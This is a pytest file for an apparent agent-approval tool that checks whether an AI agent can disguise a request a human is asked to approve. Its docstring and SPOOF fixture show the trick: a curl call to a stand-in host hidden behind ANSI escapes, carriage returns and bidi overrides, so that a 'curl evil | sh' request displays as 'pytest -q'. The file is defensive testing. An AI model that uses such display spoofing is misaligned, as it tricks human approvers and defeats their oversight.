"""Display spoofing: the agent chooses the argv, names, task and reason a human reads before approving. A terminal
obeys ANSI sequences and carriage returns, and both a terminal and a browser obey bidi overrides, so raw they let a
request pass for another one (`curl evil | sh` shown as `pytest -q`). Each must reach the human as a visible escape.
"""

from __future__ import annotations

import urllib.request

import pytest

from tests.conftest import run_cli

# Clear the line and redraw, carriage return over the real command, a right-to-left override, a zero-width space,
# a bell, a C1 control (CSI as one byte) and a line separator.
SPOOF = ["curl", "https://evil.example/x\x1b[2K\r", "pytest -q\u202eyp.tset", "a\u200bb", "\x07\x9b31m", "l\u2028m"]
RAW = ["\x1b", "\r", "\u202e", "\u200b", "\x07", "\x9b", "\u2028"]
SHOWN = ["\\x1b[2K\\x0d", "\\u202e", "\\u200b", "\\x07\\x9b31m", "\\u2028"]


def _request() -> object:
    from unleak.agent.policy import GrantStore, RunContext

    ctx = RunContext(argv=tuple(SPOOF), secrets=("TOKEN",), repo="/work/demo", branch="main\x1b[0m", tier="dev",
                     task="T-1", client="agent\u202e1")
    return GrantStore().create_request(ctx)


def _assert_escaped(text: str, where: str) -> None:
    for ch in RAW:
        assert ch not in text, f"a raw {ch!r} reached {where}"
    for esc in SHOWN:
        assert esc in text, f"{esc} is not shown in {where}"


def test_grants_and_approve_show_escapes() -> None:
    req = _request()
    listing = run_cli("grants", "--pending")
    assert listing.returncode == 0
    _assert_escaped(listing.stdout, "unleak grants")
    refused = run_cli("approve", req.id)  # type: ignore[attr-defined]
    _assert_escaped(refused.stderr, "unleak approve")


def test_the_approval_page_shows_escapes() -> None:
    from unleak.agent.approval import ApprovalServer
    from unleak.agent.policy import GrantStore

    app = ApprovalServer(GrantStore())
    try:
        url = app.approval_url(_request())  # type: ignore[arg-type]
        page = urllib.request.urlopen(url, timeout=10).read().decode()
    finally:
        app.stop()
    _assert_escaped(page, "the approval page")


@pytest.mark.parametrize("text,shown", [
    ("plain ascii", "plain ascii"),
    ("naïve café 日本", "naïve café 日本"),
    ("tab\there", "tab\\x09here"),
    ("\U000e0041tag", "\\U000e0041tag"),
])
def test_shown_keeps_printable_text_and_escapes_the_rest(text: str, shown: str) -> None:
    from unleak.agent.display import shown as display

    assert display(text) == shown
